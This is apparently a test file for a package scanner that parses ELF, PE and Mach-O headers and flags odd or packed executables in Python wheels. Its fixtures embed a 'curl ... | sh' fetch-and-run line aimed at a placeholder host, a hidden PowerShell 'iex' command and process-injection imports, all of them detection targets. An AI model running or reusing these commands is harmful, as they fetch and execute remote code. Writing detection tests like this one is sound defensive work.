"""The headers of executables are read within bounds, and odd ones are told from those that libraries bring."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.executables import a_mach, a_pe, an_elf, noise
from support.scan import finding_of, rules_of, scan_sdist, scan_wheel
from wheelmark.scan import Severity, Verdict
from wheelmark.scan.executables import read_executable

PLATFORM = "widget-1-cp313-cp313-manylinux_2_28_x86_64.whl"
FETCH = b"sh\0curl -s https://get.example.invalid/i | sh\0more"
ALL = (
    an_elf(FETCH, imports=["system", "connect"], needed=["libc.so.6"]),
    a_pe(imports=["CreateProcessW", "URLDownloadToFileW"], rest=FETCH),
    a_mach(FETCH, imports=["system", "connect"]),
)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (ALL[0], ("ELF", "x86-64", [".text"], ["libc.so.6"], ["system", "connect"])),
        (ALL[1], ("PE", "x86-64", [".text"], ["KERNEL32.dll"], ["CreateProcessW", "URLDownloadToFileW"])),
        (ALL[2], ("Mach-O", "ARM64", ["__text"], ["/usr/lib/libSystem.B.dylib"], ["system", "connect"])),
    ],
)
def test_headers_are_read(raw: bytes, shown: object) -> None:
    found = read_executable(raw)
    assert found is not None
    code = [each.name for each in found.sections if each.runs]
    assert (found.format, found.machine, code, found.libraries, found.imports) == shown
    assert found.texts == ["curl -s https://get.example.invalid/i | sh"]
    assert not found.is_packed


@pytest.mark.parametrize(
    ("raw", "packer"),
    [
        (a_pe(section="UPX1"), "UPX"),
        (a_pe(section=".vmp0"), "VMProtect"),
        (an_elf() + b"UPX!", "UPX"),
        (an_elf(noise(40_000)), ""),
        (a_mach(noise(40_000)), ""),
    ],
)
def test_packed_executable_is_told(raw: bytes, packer: str) -> None:
    found = read_executable(raw)
    assert found is not None
    assert (found.is_packed, found.packer) == (True, packer)


def test_text_of_windows_is_found_in_two_bytes_a_character() -> None:
    found = read_executable(a_pe(rest="powershell -w hidden -c iex".encode("utf-16-le")))
    assert found is not None
    assert found.texts == ["powershell -w hidden -c iex"]
    assert found.overlay == 54


@pytest.mark.parametrize(
    "raw", [b"", b"MZ", b"MZ imitation", b"\xca\xfe\xba\xbe\0\0\0\x41class of Java", b"#!/bin/sh\n"]
)
def test_other_files_are_no_executables(raw: bytes) -> None:
    assert read_executable(raw) is None


def test_odd_executable_in_a_distribution_for_any_platform_is_said() -> None:
    report = scan_wheel({"widget/__init__.py": "", "widget/tool": ALL[0]})
    found = finding_of(report, "odd-executable")
    assert (found.member, found.severity) == ("widget/tool", Severity.HIGH)
    injects = a_pe(imports=["OpenProcess", "WriteProcessMemory", "CreateRemoteThread"])
    assert finding_of(scan_sdist({"setup.py": "", "x.exe": injects}), "odd-executable").severity is Severity.HIGH
    packed = scan_wheel({"widget/__init__.py": "", "widget/tool.exe": a_pe(section="UPX1")})
    assert finding_of(packed, "odd-executable").severity is Severity.MEDIUM
    assert packed.verdict is Verdict.BENIGN


def test_executables_of_libraries_and_launchers_are_left_alone() -> None:
    launcher = a_pe(imports=["CreateProcessA", "GetModuleFileNameA", "LoadLibraryA", "GetProcAddress"])
    assert rules_of(scan_wheel({"widget/__init__.py": "", "widget/cli.exe": launcher})) == set()
    library = an_elf(imports=["PyModule_Create2", "connect", "getenv"], needed=["libc.so.6"])
    packed = an_elf(noise(40_000))
    members: dict[str, str | bytes] = {"widget/__init__.py": "", "widget/_speed.so": library, "widget/_data.so": packed}
    assert rules_of(scan_wheel(members, filename=PLATFORM)) == set()


@settings(max_examples=300)
@given(st.sampled_from(ALL), st.integers(0, 900), st.binary(min_size=1, max_size=8), st.integers(0, 900))
def test_damaged_executable_never_stops_a_scan(raw: bytes, where: int, put: bytes, cut: int) -> None:
    damaged = bytearray(raw)
    damaged[where % len(raw) : where % len(raw) + len(put)] = put
    read_executable(bytes(damaged[: max(4, len(damaged) - cut)]))


@settings(max_examples=200)
@given(st.sampled_from([b"\x7fELF", b"MZ", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe", b"\xfe\xed\xfa\xce"]), st.binary())
def test_any_bytes_behind_a_magic_number_are_read(magic: bytes, rest: bytes) -> None:
    read_executable(magic + rest)


@pytest.mark.parametrize("raw", [an_elf(b"curl curl wget /dev/tcp/" * 200_000), b"MZ" + b"curl " * 800_000])
def test_large_executable_is_read_in_time(raw: bytes) -> None:
    started = time.process_time()
    read_executable(raw)
    assert time.process_time() - started < 3


def test_loops_in_headers_end() -> None:
    raw = bytearray(a_mach())
    raw[16:20] = (0xFFFFFFFF).to_bytes(4, "little")  # commands
    raw[32 + 64 : 32 + 68] = (0xFFFFFFFF).to_bytes(4, "little")  # sections of the segment
    started = time.process_time()
    assert read_executable(bytes(raw)) is not None
    assert time.process_time() - started < 1
